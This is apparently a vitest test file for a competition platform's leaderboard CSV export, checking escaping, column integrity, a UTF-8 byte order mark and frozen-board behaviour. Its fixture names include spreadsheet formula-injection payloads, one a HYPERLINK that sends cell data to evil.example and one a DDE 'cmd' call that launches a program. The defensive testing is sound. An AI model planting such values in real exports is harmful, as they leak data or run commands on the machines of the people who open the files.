import { mkdtempSync } from "node:fs";
import { join } from "node:path";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { addVersion, classicScoringRound, instantMove, instantPrepare } from "../bench/seed-field.js";
import { registerCompetitor } from "../src/competitors.js";
import { competitions } from "../src/db/schema.js";
import { csvField } from "../src/standings/leaderboard-csv.js";
import { startTestArena, type TestArena } from "./helpers/test-arena.js";

/*
 * The leaderboard as a CSV file, as an organiser opens it in a spreadsheet: competitors named to be
 * read as formulas (`=HYPERLINK(…)`, `+…`, `-…`, `@…`) or to break the columns (commas, quotes) come out
 * as plain text in their own column; a frozen board stays frozen for the public, as the JSON one does.
 */
let arena: TestArena;
const NAMES = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Claim your prize")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  'Smith, John "JJ"',
  "Zoë",
];

/** RFC 4180 lines → fields (quoted fields may hold commas and doubled quotes; no line breaks here). */
function parseCsv(text: string): string[][] {
  return text
    .split("\r\n")
    .filter((line) => line !== "")
    .map((line) => {
      const fields: string[] = [];
      let i = 0;
      while (i <= line.length) {
        if (line[i] === '"') {
          let value = "";
          i++;
          for (;;) {
            const quote = line.indexOf('"', i);
            value += line.slice(i, quote);
            i = quote + 1;
            if (line[i] === '"') {
              value += '"';
              i++;
            } else break;
          }
          fields.push(value);
          i++;
        } else {
          const comma = line.indexOf(",", i);
          const end = comma < 0 ? line.length : comma;
          fields.push(line.slice(i, end));
          i = end + 1;
        }
      }
      return fields;
    });
}

beforeAll(async () => {
  arena = await startTestArena({ prepareBot: instantPrepare, runMove: instantMove });
  const { db } = arena.service.ctx;
  const [competition] = await db.select().from(competitions).where(eq(competitions.slug, "main"));
  const scratch = mkdtempSync(join(arena.root, "versions-"));
  for (const [i, name] of NAMES.entries()) {
    const registered = await registerCompetitor(arena.service.ctx, competition!.id, name, "test");
    await addVersion(arena.service, registered.competitor.id, competition!.id, scratch, `print(${i})\n`, 1);
  }
  await classicScoringRound(arena.service, competition!.id, {
    games: 1,
    roundRobinMax: 8,
    opponents: 2,
    createdBy: "test",
  });
  await arena.service.idle();
}, 240_000);

afterAll(async () => {
  await arena?.close();
});

describe("the leaderboard as CSV", () => {
  it("keeps a spreadsheet from reading a name as a formula, and every name in its own column", () => {
    expect(csvField("=1+1")).toBe("'=1+1");
    expect(csvField("\t=1")).toBe("'\t=1");
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("@x,y")).toBe(`"'@x,y"`);
    expect(csvField(-3)).toBe("-3");
    expect(csvField(null)).toBe("");
  });

  it("has the JSON leaderboard's rows, in its order, with hostile names as text", async () => {
    const json = await arena.api("GET", "/api/competitions/main/leaderboard");
    expect(json.status).toBe(200);
    const rows = json.body.rows as { rank: number; displayName: string; points: number; played: number }[];
    expect(rows).toHaveLength(NAMES.length);
    expect(rows.some((r) => r.played > 0)).toBe(true);

    const csv = await arena.api("GET", "/api/competitions/main/leaderboard.csv");
    expect(csv.status).toBe(200);
    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(csv.headers.get("content-disposition")).toBe('attachment; filename="main-leaderboard.csv"');
    // A byte order mark first, so a spreadsheet reads the file as UTF-8 (fetch's text() drops it).
    const bytes = new Uint8Array(
      await (await fetch(`${arena.url}/api/competitions/main/leaderboard.csv`)).arrayBuffer(),
    );
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.text.startsWith("rank,competitor,")).toBe(true);
    const [header, ...lines] = parseCsv(csv.text);
    expect(header).toHaveLength(16);
    expect(lines).toHaveLength(rows.length);
    for (const [i, line] of lines.entries()) {
      expect(line, `line ${i + 1}`).toHaveLength(header!.length);
      const row = rows[i]!;
      expect(Number(line[0])).toBe(row.rank);
      expect(Number(line[4])).toBe(row.points);
      // A name a spreadsheet would evaluate starts with a quote; every other name is as registered.
      const name = line[1]!;
      expect(/^[=+\-@]/.test(name), name).toBe(false);
      expect(name.replace(/^'(?=[=+\-@])/, "")).toBe(row.displayName);
    }
    expect(lines.map((l) => l[1])).toContain(`'${NAMES[0]}`);
    expect(lines.map((l) => l[1])).toContain('Smith, John "JJ"');
    expect(lines.map((l) => l[1])).toContain("Zoë");
  });

  it("while frozen, the public file is the board at the freeze; an admin's ?live=true is the live one", async () => {
    const before = await arena.api("GET", "/api/competitions/main/leaderboard.csv");
    const frozen = await arena.api("POST", "/api/competitions/main/freeze", { token: arena.admin });
    expect(frozen.status, frozen.text).toBe(200);
    const { db } = arena.service.ctx;
    const [competition] = await db.select().from(competitions).where(eq(competitions.slug, "main"));
    // A round after the freeze changes the live board only.
    await classicScoringRound(arena.service, competition!.id, {
      games: 2,
      roundRobinMax: 8,
      opponents: 2,
      createdBy: "test",
    });
    await arena.service.idle();
    const publicCsv = await arena.api("GET", "/api/competitions/main/leaderboard.csv?live=true");
    expect(publicCsv.text).toBe(before.text);
    const live = await arena.api("GET", "/api/competitions/main/leaderboard.csv?live=true", {
      token: arena.admin,
    });
    const liveJson = await arena.api("GET", "/api/competitions/main/leaderboard?live=true", {
      token: arena.admin,
    });
    const played = parseCsv(live.text)
      .slice(1)
      .map((l) => Number(l[5]));
    expect(played).toEqual(liveJson.body.rows.map((r: { played: number }) => r.played));
    expect(live.text).not.toBe(before.text);
  });

  it("an unknown competition is a JSON 404, not an empty file", async () => {
    const answer = await arena.api("GET", "/api/competitions/nope/leaderboard.csv");
    expect(answer.status).toBe(404);
    expect(answer.body.error.code).toBe("not_found");
  });
});
